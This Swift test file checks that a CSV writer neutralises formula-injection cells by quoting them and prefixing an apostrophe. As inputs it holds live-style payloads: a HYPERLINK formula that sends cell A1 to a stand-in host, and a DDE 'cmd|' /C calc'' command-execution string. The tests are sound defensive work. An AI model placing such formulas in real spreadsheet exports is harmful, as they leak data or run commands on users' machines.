import Store
import StoreSQLite
import Testing

@testable import Operations

/// Cells a spreadsheet would run as formulas are written neutralised (OWASP CSV injection): quoted, with `'` first.
@Suite struct CSVInjectionTests {
  static func written(_ fields: [String]) -> String {
    var writer = CSVWriter()
    writer.write(fields)
    return String(decoding: writer.bytes, as: UTF8.self)
  }

  @Test func hyperlinkFormulaFromAnOwnerNameIsNeutralised() {
    #expect(
      Self.written(["=HYPERLINK(\"http://x\"&A1,\"x\")"])
        == "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\"\n")
  }

  @Test(arguments: [
    ("=1+1", "\"'=1+1\""), ("+1+1", "\"'+1+1\""), ("-1+1", "\"'-1+1\""), ("@SUM(A1)", "\"'@SUM(A1)\""),
    ("\tcmd", "\"'\tcmd\""), ("\rcmd", "\"'\rcmd\""),
    ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
    ("-", "\"'-\""), ("-.5", "\"'-.5\""), ("-1.2.3", "\"'-1.2.3\""), ("--1", "\"'--1\""),
  ])
  func cellStartingAsAFormulaIsQuotedAfterAQuote(cell: String, expected: String) {
    #expect(Self.written([cell]) == expected + "\n")
  }

  @Test(arguments: ["-12", "-3.5", "-4.2%", "0", "12%", "a=b", "张伟", "'=kept as typed", " =x", ""])
  func plainNegativeNumbersAndOrdinaryCellsAreWrittenAsTheyAre(cell: String) {
    #expect(Self.written([cell, "x"]) == cell + ",x\n")
  }

  @Test func textThisProgramReadsBackIsKeptVerbatim() throws {
    var writer = CSVWriter.verbatim()
    writer.write(["=1+1", "-need"])
    var reader = CSVReader(String(decoding: writer.bytes, as: UTF8.self))
    #expect(try reader.next()?.fields == ["=1+1", "-need"])
  }

  @Test func visitRecordedFromOptionsKeepsALeadingMinus() {
    var catalog = Catalog()
    catalog.add(Seed.batch)
    let context = ImportContext(catalog: catalog, now: Seed.instant("2026-11-01 12:00"))
    var fields = Corpus.goodVisit
    fields["needs"] = "-希望增加充电桩"
    let outcome = FactImporter(kind: .visits, fileName: "visit", context: context).read(fields: fields)
    #expect(outcome.issues.isEmpty, "\(outcome.issues)")
    #expect(outcome.batch.visits.first?.feedbackTexts == ["-希望增加充电桩"])
  }
}
